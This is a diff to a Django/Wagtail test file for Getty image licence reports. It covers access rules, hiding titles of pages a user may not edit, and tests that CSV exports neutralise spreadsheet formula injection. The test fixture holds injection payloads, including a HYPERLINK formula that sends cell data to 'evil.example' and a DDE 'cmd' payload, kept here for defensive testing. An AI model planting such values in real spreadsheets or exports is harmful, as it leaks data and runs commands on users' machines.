@@ -1,6 +1,7 @@
 """The two reports, as Wagtail's own: "Getty images awaiting licence" (pages whose latest revision
 holds a comp or a licence waiting for its file, each linked to its editor) and "Getty licences"
-(who, when, product, project code, where used), both exportable as CSV and XLSX."""
+(who, when, product, project code, where used), both exportable as CSV and XLSX; for users who
+may license, with titles only of pages they may edit, and CSV cells no spreadsheet runs."""
 
 import csv
 import io
@@ -145,30 +146,112 @@ def test_licences_export_csv_and_xlsx(pages):
     assert sheet.max_row == 3
 
 
-def test_the_reports_are_in_the_reports_menu_for_getty_users_only(pages, django_user_model):
-    for username in ("editor", "writer"):
-        client = logged_in(username)
-        for url in (AWAITING, LICENCES):
-            assert client.get(url).status_code == 200, (username, url)
+def test_the_reports_are_in_the_reports_menu_for_users_who_may_license_only(pages, django_user_model):
+    client = logged_in("editor")
+    for url in (AWAITING, LICENCES):
+        assert client.get(url).status_code == 200, url
+    home = client.get("/admin/").content.decode()
+    assert AWAITING in home and LICENCES in home
+
     from django.contrib.auth.models import Group
 
     reader = django_user_model.objects.create_user("reader", password="reader")
     reader.groups.set([Group.objects.get(name="Editors")])
-    client = logged_in("reader")
-    for url in (AWAITING, LICENCES):
-        response = client.get(url)
-        assert response.status_code == 302 and response["Location"] == "/admin/"
-    home = logged_in("editor").get("/admin/").content.decode()
-    assert AWAITING in home and LICENCES in home
-    assert AWAITING not in client.get("/admin/").content.decode()
+    # The writer may search and choose (search_image), not license: no reports either.
+    for username in ("reader", "writer"):
+        client = logged_in(username)
+        for url in (AWAITING, LICENCES, f"{LICENCES}?export=csv", f"{AWAITING}?export=xlsx"):
+            response = client.get(url)
+            assert response.status_code == 302 and response["Location"] == "/admin/", (username, url)
+        home = client.get("/admin/").content.decode()
+        assert AWAITING not in home and LICENCES not in home, username
 
 
-def test_the_awaiting_report_shows_only_pages_the_user_may_edit(pages, django_user_model):
+@pytest.fixture
+def auditor(pages, django_user_model):
+    """May use the admin and license Getty images, and edit no page."""
     from django.contrib.auth.models import Permission
 
-    user = django_user_model.objects.create_user("searcher", password="searcher")
+    user = django_user_model.objects.create_user("auditor", password="auditor")
     user.user_permissions.add(
-        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="search_image")
+        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="license_image")
     )
-    html = logged_in("searcher").get(AWAITING).content.decode()
+    return logged_in("auditor")
+
+
+def test_the_licences_report_counts_pages_the_user_may_not_edit_without_their_titles(pages, auditor):
+    demo, other, kept, waiting = pages
+    html = auditor.get(LICENCES).content.decode()
+    assert "A kept cat (555)" in html and "1 page you may not edit" in html
+    assert "Second page" not in html and "Getty picker demo" not in html
+    rows = list(
+        csv.DictReader(
+            io.StringIO(b"".join(auditor.get(LICENCES, {"export": "csv"}).streaming_content).decode())
+        )
+    )
+    assert {row["Getty id"]: row["Where used"] for row in rows} == {
+        "555": "1 page you may not edit",
+        "777": "1 page you may not edit",
+    }
+    # The awaiting report lists pages to edit: none for this user.
+    html = auditor.get(AWAITING).content.decode()
     assert "A comp cat" not in html and "No page holds a Getty comp" in html
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "project_code": "@SUM(1+1)",
+    "download_notes": "+cmd|' /C calc'!A0",
+    "credit_line": "-2+3",
+    "product_name": "\tTabbed",
+    "agreement_name": "\rReturned",
+}
+
+
+def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(pages):
+    demo, other, kept, waiting = pages
+    GettyLicence.objects.filter(pk=kept.pk).update(**FORMULAS)
+    other.title = "=1+1"
+    other.save_revision().publish()
+    client = logged_in("editor")
+
+    response = client.get(LICENCES, {"export": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    row = next(row for row in rows if row["Getty id"] == "555")
+    shown = {
+        "title": row["Title"],
+        "project_code": row["Project code"],
+        "download_notes": row["Download notes"],
+        "credit_line": row["Credit line"],
+        "product_name": row["Product"],
+        "agreement_name": row["Agreement"],
+    }
+    assert shown == {name: f"'{value}" for name, value in FORMULAS.items()}
+    assert row["Where used"] == "'=1+1"
+    # Cells that only look like numbers or text stay as they are.
+    assert row["Getty id"] == "555" and row["Licensed by"] == "editor"
+
+    response = client.get(AWAITING, {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert rows[1][0] == "Getty picker demo"
+    GettyImageUse.objects.filter(page=demo).update(title="@A1")
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                b"".join(client.get(AWAITING, {"export": "csv"}).streaming_content).decode(), newline=""
+            )
+        )
+    )
+    assert {row[3] for row in rows[1:]} == {"'@A1"}
+
+
+def test_xlsx_exports_keep_such_cells_as_text(pages):
+    _demo, _other, kept, _waiting = pages
+    GettyLicence.objects.filter(pk=kept.pk).update(**FORMULAS)
+    response = logged_in("editor").get(LICENCES, {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    headings, rows = values[0], values[1:]
+    row = dict(zip(headings, next(r for r in rows if r[0] == "555"), strict=True))
+    assert row["Title"] == FORMULAS["title"] and row["Project code"] == FORMULAS["project_code"]
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
